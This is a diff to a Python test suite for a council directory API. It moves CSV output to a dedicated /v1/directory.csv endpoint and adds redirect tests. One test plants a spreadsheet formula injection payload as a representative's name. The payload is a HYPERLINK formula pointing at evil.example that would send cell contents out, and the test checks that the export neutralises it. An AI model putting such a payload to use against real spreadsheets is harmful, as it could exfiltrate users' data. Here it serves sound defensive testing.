@@ -132,20 +132,25 @@ async def test_the_directory_lists_the_governance_bodies_and_the_next_meeting(
 async def test_the_csv_has_one_row_per_representative_and_opens_in_excel(
     registry: Registry, tokens: Tokens
 ) -> None:
-    """CSV with `Accept: text/csv` or `?format=csv`: UTF-8 with a byte-order mark (Excel), a header row,
-    one row per representative; a council without representatives is one row."""
+    """`GET /v1/directory.csv`, where `Accept: text/csv` and `?format=csv` lead: UTF-8 with a byte-order
+    mark (Excel), a header row, one row per representative; a council without representatives is one
+    row."""
     nord = await staffed(registry, tokens)
     by_accept = await registry.client.get(
-        "/v1/directory", params={"specialty": "anestesiologi"}, headers={"Accept": "text/csv"}
+        "/v1/directory",
+        params={"specialty": "anestesiologi"},
+        headers={"Accept": "text/csv"},
+        follow_redirects=True,
     )
     by_format = await registry.client.get(
-        "/v1/directory", params={"specialty": "anestesiologi", "format": "csv"}
+        "/v1/directory", params={"specialty": "anestesiologi", "format": "csv"}, follow_redirects=True
     )
-    assert by_accept.status_code == 200, by_accept.text
-    assert by_accept.headers["content-type"] == "text/csv; charset=utf-8"
-    assert by_accept.content == by_format.content
-    assert by_accept.content.startswith("\ufeff".encode())
-    rows = list(csv.DictReader(io.StringIO(by_accept.content.decode("utf-8-sig"))))
+    direct = await registry.client.get("/v1/directory.csv", params={"specialty": "anestesiologi"})
+    assert direct.status_code == 200, direct.text
+    assert direct.headers["content-type"] == "text/csv; charset=utf-8"
+    assert by_accept.content == by_format.content == direct.content
+    assert direct.content.startswith("\ufeff".encode())
+    rows = list(csv.DictReader(io.StringIO(direct.content.decode("utf-8-sig"))))
     assert tuple(rows[0]) == CSV_COLUMNS
     ours = [r for r in rows if r["council_id"] == nord]
     assert sorted(r["trust"] for r in ours) == sorted(HELSE_NORD_HF)
@@ -165,6 +170,37 @@ async def test_the_csv_has_one_row_per_representative_and_opens_in_excel(
     assert (refused.status_code, refused.json()["rule"]) == (406, "NOT-ACCEPTABLE")
 
 
+@pytest.mark.parametrize(
+    ("asked", "headers"),
+    [
+        ({"format": "csv"}, {}),
+        ({}, {"Accept": "text/csv"}),
+        ({}, {"Accept": "text/csv;q=0.9, application/json;q=0.5"}),
+    ],
+    ids=["format=csv", "Accept: text/csv", "Accept preferring CSV"],
+)
+async def test_a_client_asking_the_directory_for_csv_is_sent_to_the_csv_with_every_filter(
+    registry: Registry, asked: dict[str, str], headers: dict[str, str]
+) -> None:
+    """The directory's operation answers JSON only, so that a generated client types it as one thing;
+    CSV is `GET /v1/directory.csv`, and a client that asks for CSV here gets `303 See Other` there, its
+    filters and delimiter kept and `format` left behind."""
+    filters = {
+        "region": "helse-nord",
+        "specialty": "anestesiologi",
+        "kind": "regional",
+        "delimiter": "semicolon",
+    }
+    moved = await registry.client.get("/v1/directory", params=filters | asked, headers=headers)
+    assert moved.status_code == 303, moved.text
+    assert moved.headers["location"] == (
+        "/v1/directory.csv?region=helse-nord&specialty=anestesiologi&kind=regional&delimiter=semicolon"
+    )
+    assert moved.headers["cache-control"] == "no-store"
+    as_json = await registry.client.get("/v1/directory", params=filters | {"format": "json"}, headers=headers)
+    assert (as_json.status_code, as_json.headers["content-type"]) == (200, "application/json")
+
+
 async def test_the_directory_is_cached_publicly_and_revalidated_until_a_write_changes_it(
     registry: Registry, tokens: Tokens
 ) -> None:
@@ -181,7 +217,7 @@ async def test_the_directory_is_cached_publicly_and_revalidated_until_a_write_ch
     assert (datetime.now(modified.tzinfo) - modified).total_seconds() < 120
     again = await registry.client.get("/v1/directory", params=params, headers={"If-None-Match": etag})
     assert (again.status_code, again.content, again.headers["etag"]) == (304, b"", etag)
-    csv_etag = (await registry.client.get("/v1/directory", params=params | {"format": "csv"})).headers["etag"]
+    csv_etag = (await registry.client.get("/v1/directory.csv", params=params)).headers["etag"]
     assert csv_etag != etag
 
     seat = (await registry.seats(nord))[0]
@@ -323,7 +359,7 @@ async def test_a_typed_formula_stays_text_in_the_csv_and_a_dissolved_council_lea
     nord = await registry.council(region="helse-nord")
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Kari")'
     await registry.appointed(nord, hn_seat("unn", "x") | {"person": {"name": formula}}, tokens.trust("unn"))
-    table = await registry.client.get("/v1/directory", params={"specialty": "anestesiologi", "format": "csv"})
+    table = await registry.client.get("/v1/directory.csv", params={"specialty": "anestesiologi"})
     rows = list(csv.DictReader(io.StringIO(table.content.decode("utf-8-sig"))))
     assert [r["representative_name"] for r in rows if r["council_id"] == nord] == ["'" + formula]
 
